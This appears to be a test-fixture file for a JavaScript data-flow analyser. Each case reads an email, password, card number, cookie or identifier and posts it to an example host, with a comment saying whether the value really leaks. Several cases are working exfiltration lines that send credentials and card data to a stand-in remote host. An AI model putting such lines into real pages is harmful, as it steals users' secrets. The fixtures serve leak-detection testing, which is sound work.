//# overwritten-before-send
// no flow
// why: the variable holds a fixed text when it is sent
let v1 = document.querySelector('input[type=email]').value;
v1 = 'redacted';
fetch('https://ow0.su2.example/', { method: 'POST', body: v1 });

//# overwritten-after-send
// flow: email > ow.su2.example via fetch
let v2 = document.querySelector('input[type=email]').value;
fetch('https://ow.su2.example/', { method: 'POST', body: v2 });
v2 = 'redacted';

//# deleted-key
// no flow
// why: the key is deleted before the object is serialised
const d0 = { pw: document.querySelector('input[type=password]').value, step: 1 };
delete d0.pw;
fetch('https://del0.su2.example/', { method: 'POST', body: JSON.stringify(d0) });

//# deleted-other-key
// flow: password > del.su2.example via fetch
const d1 = { pw: document.querySelector('input[type=password]').value, step: 1 };
delete d1.step;
fetch('https://del.su2.example/', { method: 'POST', body: JSON.stringify(d1) });

//# property-cleared
// no flow
// why: the property is set to null before
const o0 = { tel: document.querySelector('input[type=tel]').value };
o0.tel = null;
fetch('https://pc0.su2.example/', { method: 'POST', body: JSON.stringify(o0) });

//# property-cleared-on-copy
// flow: phone > pc.su2.example via fetch
// why: only the copy is cleared
const o1 = { tel: document.querySelector('input[type=tel]').value };
const copy = { ...o1 };
copy.tel = null;
fetch('https://pc.su2.example/', { method: 'POST', body: JSON.stringify(o1) });

//# cleared-in-one-branch
// flow: identifier > br.su2.example via beacon
// why: without the flag the value stays
let id1 = localStorage.getItem('uid');
if (window.appAnonymous) id1 = '';
navigator.sendBeacon('https://br.su2.example/', id1);

//# cleared-in-both-branches
// no flow
// why: each branch puts a fixed text in place
let id0 = localStorage.getItem('uid');
if (window.appAnonymous) id0 = 'anon';
else id0 = 'known';
navigator.sendBeacon('https://br0.su2.example/', id0);

//# redact-function
// no flow
// why: redact gives back a fixed text for every value
function redact(value) { return '[redacted]'; }
fetch('https://red0.su2.example/', {
  method: 'POST',
  body: redact(document.querySelector('textarea[name=message]').value),
});

//# redact-digits-only
// flow: message > red.su2.example via fetch
// why: only the digits are replaced
const text = document.querySelector('textarea[name=message]').value.replace(/\d/g, '#');
fetch('https://red.su2.example/', { method: 'POST', body: text });

//# array-emptied
// no flow
// why: length = 0 removes the elements
const a0 = [document.cookie];
a0.length = 0;
fetch('https://arr0.su2.example/', { method: 'POST', body: a0.join(';') });

//# form-data-deleted
// no flow
// why: the entry is deleted before the form data is sent
const fd0 = new FormData();
fd0.append('cc', document.querySelector('input[autocomplete=cc-number]').value);
fd0.append('step', '2');
fd0.delete('cc');
fetch('https://fd0.su2.example/', { method: 'POST', body: fd0 });

//# form-data-set-over
// flow: card > fd.su2.example via fetch
// why: append keeps the first entry beside the second
const fd1 = new FormData();
fd1.append('cc', document.querySelector('input[autocomplete=cc-number]').value);
fd1.append('cc', 'none');
fetch('https://fd.su2.example/', { method: 'POST', body: fd1 });

//# search-params-set-over
// no flow
// why: set replaces the value
const sp = new URLSearchParams();
sp.set('q', document.querySelector('input[type=search]').value);
sp.set('q', 'none');
fetch('https://sp0.su2.example/?' + sp);

//# shadowed-in-block
// flow: search > blk.su2.example via fetch
// why: the inner let is another variable
let q1 = document.querySelector('input[type=search]').value;
{ let q1 = 'none'; console.log(q1); }
fetch('https://blk.su2.example/?q=' + encodeURIComponent(q1));

//# replaced-all-signs
// no flow
// why: every sign is replaced by a star
const masked = document.querySelector('input[type=password]').value.replace(/[\s\S]/g, '*');
fetch('https://ra0.su2.example/', { method: 'POST', body: masked });

//# map-cleared
// no flow
// why: clear empties the map
const mp0 = new Map([['c', document.cookie]]);
mp0.clear();
fetch('https://mp0.su2.example/', { method: 'POST', body: JSON.stringify([...mp0]) });
